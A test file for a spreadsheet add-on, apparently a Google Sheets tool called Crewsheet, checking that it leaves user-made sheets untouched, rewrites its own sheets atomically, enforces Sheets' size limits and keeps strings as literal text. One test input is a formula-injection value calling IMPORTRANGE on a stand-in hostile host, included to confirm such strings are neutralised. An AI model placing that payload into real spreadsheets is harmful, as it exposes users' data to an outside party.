// Output sheets as a user's spreadsheet sees them: Crewsheet writes only the sheets it created, in
// place, all of a run or none, within Sheets' limits, and text stays the text it is.

import { describe, expect, it } from 'vitest';
import { FakeRange, type FakeSpreadsheet } from '../../preview/gas/spreadsheet';
import { addonWith } from '../support/addon';

type Output = { name: string; values: unknown[][]; backgrounds?: unknown[][]; notes?: unknown[][]; frozenRows?: number };

const table = (name: string, rows: number, label = 'row'): Output => ({
  name,
  values: [['Project', 'Task'], ...Array.from({ length: rows }, (_, i) => [`P${i}`, `${label} ${i}`])],
  backgrounds: [['#e8eaed', '#e8eaed']],
  frozenRows: 1,
});

const sheetNamed = (ss: FakeSpreadsheet, name: string) => ss.sheets.find((s) => s.name === name);

function write(addon: ReturnType<typeof addonWith>['addon'], ...outputs: Output[]) {
  return addon.run('writeOutputs', [outputs]) as { written: { name: string; sheet: string }[]; notes: string[] };
}

describe('a sheet the user made', () => {
  it('is never replaced: the output goes beside it under another name, and stays there', () => {
    const mine = [['My own budget'], [1200]];
    const { ss, addon } = addonWith({ Budget: mine });
    const first = write(addon, table('Budget', 2));
    expect(first.written[0].sheet).toBe('Budget (Crewsheet)');
    expect(first.notes.join(' ')).toMatch(/Your own sheet "Budget" was left as it is/);
    expect(sheetNamed(ss, 'Budget')?.peek()).toEqual(mine);
    const again = write(addon, table('Budget', 3));
    expect(again.written[0].sheet).toBe('Budget (Crewsheet)');
    expect(again.notes).toEqual([]);
    expect(ss.sheets.map((s) => s.name)).toEqual(['Budget', 'Budget (Crewsheet)']);
    expect(sheetNamed(ss, 'Budget')?.peek()).toEqual(mine);
  });

  it('is left alone whatever its case, and the Shares record is read only from Crewsheet’s own sheet', () => {
    const { ss, addon } = addonWith({
      schedule: [['notes of mine']],
      Shares: [
        ['Client', 'Copy'],
        ['Helios', 'not ours'],
      ],
    });
    write(addon, table('Schedule', 1));
    expect(sheetNamed(ss, 'schedule')?.peek()).toEqual([['notes of mine']]);
    expect(addon.run('getShares', [])).toEqual([]);
  });
});

describe('an output sheet Crewsheet made', () => {
  it('is rewritten in place: the same tab (so formulas pointing into it keep working), even renamed', () => {
    const { ss, addon } = addonWith({ Tasks: [['Project']] });
    write(addon, table('Schedule', 5));
    const tab = sheetNamed(ss, 'Schedule');
    tab?.setName('Our plan');
    ss.log.reset();
    const report = write(addon, table('Schedule', 2, 'new'));
    expect(report.written[0].sheet).toBe('Our plan');
    expect(ss.log.count('deleteSheet') + ss.log.count('insertSheet')).toBe(0);
    expect(ss.sheets.map((s) => s.name)).toEqual(['Tasks', 'Our plan']);
    // Shorter than before: nothing of the old rows is left behind.
    expect(tab?.peek()).toEqual([
      ['Project', 'Task'],
      ['P0', 'new 0'],
      ['P1', 'new 1'],
    ]);
    expect(tab?.frozenRows).toBe(1);
  });

  it('written by an earlier version (its generated-by note, no mark) is adopted, not duplicated', () => {
    const { ss, addon } = addonWith({ Schedule: [['Project'], ['Old']] });
    const old = sheetNamed(ss, 'Schedule');
    old?.getRange(1, 1).setNote('Written by Crewsheet. Regenerated on each Plan run.');
    write(addon, table('Schedule', 1));
    expect(ss.sheets).toHaveLength(1);
    expect(ss.sheets[0]).toBe(old);
    expect(old?.peek()[1]).toEqual(['P0', 'row 0']);
  });
});

describe('writing several sheets', () => {
  it('is all or nothing: a failure on the second puts the first back and removes what was new', () => {
    const { ss, addon } = addonWith({ Quotas: [['Owner']] });
    write(addon, table('Attainment', 3, 'before'));
    const before = sheetNamed(ss, 'Attainment')?.peek();
    const original = FakeRange.prototype.setBackgrounds;
    let calls = 0;
    FakeRange.prototype.setBackgrounds = function (this: FakeRange, colors) {
      calls += 1;
      if (calls === 2) throw new Error('Service Spreadsheets timed out');
      return original.call(this, colors);
    };
    try {
      expect(() => write(addon, table('Attainment', 9, 'after'), table('KPIs', 4))).toThrow(/timed out/);
    } finally {
      FakeRange.prototype.setBackgrounds = original;
    }
    expect(sheetNamed(ss, 'Attainment')?.peek()).toEqual(before);
    expect(sheetNamed(ss, 'Attainment')?.frozenRows).toBe(1);
    expect(ss.sheets.map((s) => s.name)).toEqual(['Quotas', 'Attainment']);
  });

  it('refuses the same sheet twice, or any sheet that is not Crewsheet’s, before writing anything', () => {
    const { ss, addon } = addonWith();
    expect(() => write(addon, table('Budget', 1), table('Budget', 2))).toThrow(/once per run/);
    expect(() => write(addon, table('Budget', 1), table('Tasks', 2))).toThrow(/only writes its own sheets/);
    expect(ss.sheets).toEqual([]);
  });
});

describe('Sheets’ limits', () => {
  it('refuses more than 18,278 columns before writing', () => {
    const { ss, addon } = addonWith();
    const wide = { name: 'Timeline', values: [new Array(18_279).fill('x')] };
    expect(() => write(addon, wide)).toThrow(/18,279 columns and Sheets allows 18,278/);
    expect(ss.sheets).toEqual([]);
  });

  it('refuses what would take the spreadsheet past 10 million cells, and says how far', () => {
    const { ss, addon } = addonWith();
    ss.load('Big', [['x']]);
    (sheetNamed(ss, 'Big') as unknown as { maxRows: number }).maxRows = 350_000; // 350,000 × 26 = 9.1 M cells
    const tall = table('Schedule', 40_000);
    expect(() => write(addon, tall)).toThrow(/would need 80,002 cells.*would then hold 10,140,026; Sheets allows 10,000,000/);
    expect(ss.sheets.map((s) => s.name)).toEqual(['Big']);
  });
});

describe('what is written', () => {
  it('refuses cells that are not plain values instead of writing [object Object]', () => {
    const { ss, addon } = addonWith();
    for (const bad of [{ a: 1 }, [1, 2], { date: 'soon' }, { date: '2026-01-01', extra: 1 }]) {
      expect(() => write(addon, { name: 'Schedule', values: [['ok', bad]] })).toThrow(/row 1, column 2 is not a plain value/);
    }
    expect(() => write(addon, { name: 'Schedule', values: [['ok']], notes: [[{ x: 1 }]] })).toThrow(/formatting/);
    expect(ss.sheets).toEqual([]);
  });

  it('keeps every string Sheets would convert as the text it is', () => {
    const { ss, addon } = addonWith();
    const tricky = [
      '=IMPORTRANGE("https://evil.example","A1")',
      '+1',
      '-2',
      '@everyone',
      '2026-11',
      '00123',
      'TRUE',
      "'quoted",
      '1e5',
      '1,200.50',
      '50%',
      '(300)',
      '$1,200',
      '¥100',
      '€ 12',
      'March 2027',
      'Jan 5',
      '5 Jan 2027',
      '12/14/2026',
      '10:00 AM',
      '2026-11-21 14:05',
      '#N/A',
      '#REF!',
      '１２３',
      '＝SUM(A1)',
    ];
    write(addon, { name: 'Schedule', values: [tricky] });
    const sheet = sheetNamed(ss, 'Schedule');
    expect(sheet?.formulas()).toEqual([]);
    expect(sheet?.errors()).toEqual([]);
    expect(sheet?.peek()[0]).toEqual(tricky);
  });

  it('cuts text longer than a cell holds, saying so', () => {
    const { ss, addon } = addonWith();
    write(addon, { name: 'Schedule', values: [['x'.repeat(60_000)]] });
    const text = sheetNamed(ss, 'Schedule')?.peek()[0][0] as string;
    expect(text.length).toBe(50_000);
    expect(text).toMatch(/cut: Sheets holds 50,000 characters/);
  });
});
